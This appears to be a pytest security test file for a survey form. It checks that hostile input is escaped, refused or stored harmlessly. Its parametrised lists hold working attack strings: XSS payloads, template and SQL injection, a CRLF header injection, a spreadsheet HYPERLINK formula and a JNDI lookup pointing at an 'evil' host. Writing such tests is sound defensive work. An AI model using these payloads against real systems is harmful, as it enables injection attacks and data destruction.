"""Hostile submissions: nothing executes, nothing breaks, nothing is stored that the definition does not allow."""

from __future__ import annotations

import json
from collections.abc import Iterator
from html import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from surveys.storage import Store
from tests.support.front_door import TestClient, hidden, visiting

FORM = "/s/power-visit"


@pytest.fixture
def browser(published: Store) -> Iterator[TestClient]:
    with visiting(published) as browser:
        yield browser


def answers(store: Store) -> list[dict[str, object]]:
    return [dict(response.answers) for chunk in store.responses.responses("power-visit") for response in chunk]


A_FILE = b'--x\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx\r\n--x--\r\n'
INJECTIONS = [
    "<script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "'); DROP TABLE responses; --",
    '=HYPERLINK("http://evil")',
    "\u202e反向\u2066隐藏\u200b",
    "${jndi:ldap://evil}",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_was_typed_is_shown_and_stored_as_text(browser: TestClient, published: Store, text: str) -> None:
    """On the 422 page it stands escaped; in the store it stands as it was."""
    fields = {**hidden(browser.get(FORM).text), "comment": text}
    page = browser.post(FORM, data={**fields, "csat": text})
    assert page.status_code == 422
    assert f"\n{escape(text).replace('&quot;', '&#34;').replace('&#x27;', '&#39;')}</textarea>" in page.text
    assert page.text.count("<script") == 1
    assert browser.post(FORM, data={**fields, "csat": "5"}).status_code == 200
    assert answers(published) == [{"csat": 5, "comment": text}]


def test_unwritable_characters_are_left_out(browser: TestClient, published: Store) -> None:
    """NUL and control characters don't reach the store; a lone surrogate breaks no page."""
    fields = hidden(browser.get(FORM).text)
    body = "&".join(f"{name}={value}" for name, value in fields.items()) + "&csat=5&comment=a%00b%1bc%ED%A0%80d"
    headers = {"content-type": "application/x-www-form-urlencoded"}
    assert browser.post(FORM, content=body.replace("csat=5", "csat=x"), headers=headers).status_code == 422
    assert browser.post(FORM, content=body, headers=headers).status_code == 200
    assert answers(published) == [{"csat": 5, "comment": "abc���d"}]


@pytest.mark.parametrize(
    "charset", ["utf-8", "utf-7", "idna", "unicode_escape", "hex", "nonsense", "utf-16"], ids=lambda each: each
)
def test_multipart_in_any_charset_is_read_or_refused(browser: TestClient, charset: str) -> None:
    """Never a 500, whatever the bytes decode to."""
    parts = [("csat", b"5"), ("comment", rb"\ud800 +2AA- .. " + bytes(range(128, 256)))]
    body = b"".join(
        b'--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (name.encode(), value)
        for name, value in parts
    )
    kind = f"multipart/form-data; boundary=x; charset={charset}"
    page = browser.post(FORM, content=body + b"--x--\r\n", headers={"content-type": kind})
    assert page.status_code in (400, 422)


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("multipart/form-data; boundary=x", b"--x\r\nno header\r\n"),
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\nnameless\r\n--x--\r\n"),
        ("multipart/form-data", b"--x--"),
        ("multipart/form-data; boundary=x", A_FILE),
        ("application/json", b'{"csat": 5}'),
        ("text/plain", b"csat=5"),
        ("application/x-www-form-urlencoded", b"&".join(b"f%d=1" % n for n in range(10_000))),
    ],
    ids=["broken", "nameless part", "no boundary", "a file", "JSON", "plain text", "10,000 fields"],
)  # fmt: skip
def test_what_is_no_form_is_refused_in_words(browser: TestClient, published: Store, kind: str, body: bytes) -> None:
    page = browser.post(FORM, content=body, headers={"content-type": kind})
    assert page.status_code == 400 and "没能读懂这次请求" in page.text
    assert not answers(published)


def test_ten_megabytes_are_refused(browser: TestClient, published: Store) -> None:
    fields = hidden(browser.get(FORM).text)
    page = browser.post(FORM, data={**fields, "csat": "5", "comment": "x" * 10_000_000})
    assert page.status_code == 413 and "太大" in page.text
    claimed = browser.post(FORM, content=b"", headers={"content-length": "99999999999"})
    assert claimed.status_code == 413
    assert not answers(published)


def test_unknown_fields_and_duplicates_are_not_stored(browser: TestClient, published: Store) -> None:
    """Two values for one rating are no answer; fields the survey does not have are ignored."""
    fields = hidden(browser.get(FORM).text)
    assert browser.post(FORM, data={**fields, "csat": ["4", "5"]}).status_code == 422
    odd = {"id": "x", "received_at": "2000-01-01", "__proto__": "x", "participation": "1", "csat.points": "9"}
    assert browser.post(FORM, data={**fields, **odd, "csat": "4"}).status_code == 200
    assert answers(published) == [{"csat": 4}]


@pytest.mark.parametrize("value", ["0", "6", "-1", "4.5", "５", "²", "4 OR 1=1", "9" * 5000, "true", "[]", "na"])
def test_what_the_scale_does_not_offer_is_refused(browser: TestClient, published: Store, value: str) -> None:
    page = browser.post(FORM, data={**hidden(browser.get(FORM).text), "csat": value})
    assert page.status_code == 422 and not answers(published)


TOUCHPOINTS = ["a%0d%0aSet-Cookie:%20x=1", "%00", "<q>", "x" * 5000, "%ED%A0%80", "' OR 1=1 --"]


@pytest.mark.parametrize("touchpoint", TOUCHPOINTS)
def test_a_forged_touchpoint_goes_nowhere(browser: TestClient, touchpoint: str) -> None:
    """Not into a header, not into the page, not into a lookup."""
    browser.get(FORM)  # which gives the browser the one cookie it gets
    page = browser.get(f"{FORM}?tp={touchpoint}&biz={touchpoint}")
    assert page.status_code == 200 and "set-cookie" not in page.headers
    assert {"_tp", "_biz"}.isdisjoint(hidden(page.text)) and "<q>" not in page.text


def test_the_policy_lets_only_the_page_s_own_script_run(browser: TestClient) -> None:
    """Every inlined sheet and script is named by its hash; nothing else may load."""
    policy = browser.get(FORM).headers["content-security-policy"]
    assert policy.startswith("default-src 'none'") and "unsafe" not in policy and "http" not in policy
    assert "style=" not in browser.get(FORM).text and " onclick" not in browser.get(FORM).text


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(st.sampled_from(["csat", "nps", "repair", "comment", "_token", "_tp"]), st.text(max_size=40)))
def test_whatever_is_sent_is_kept_or_given_back(browser: TestClient, entries: dict[str, str]) -> None:
    """200, 400 or 422 for any text in any field; what is stored is what the definition allows."""
    data = {name: text.encode("utf-8", "replace").decode() for name, text in entries.items()}
    assert browser.post(FORM, data=data).status_code in (200, 400, 422)


def test_stored_answers_are_json_of_known_items(browser: TestClient, published: Store) -> None:
    fields = hidden(browser.get(FORM).text)
    browser.post(FORM, data={**fields, "csat": "3", "repair": "na", "comment": '{"csat": 99}'})
    [answer] = answers(published)
    assert json.loads(json.dumps(answer)) == {"csat": 3, "repair": "na", "comment": '{"csat": 99}'}
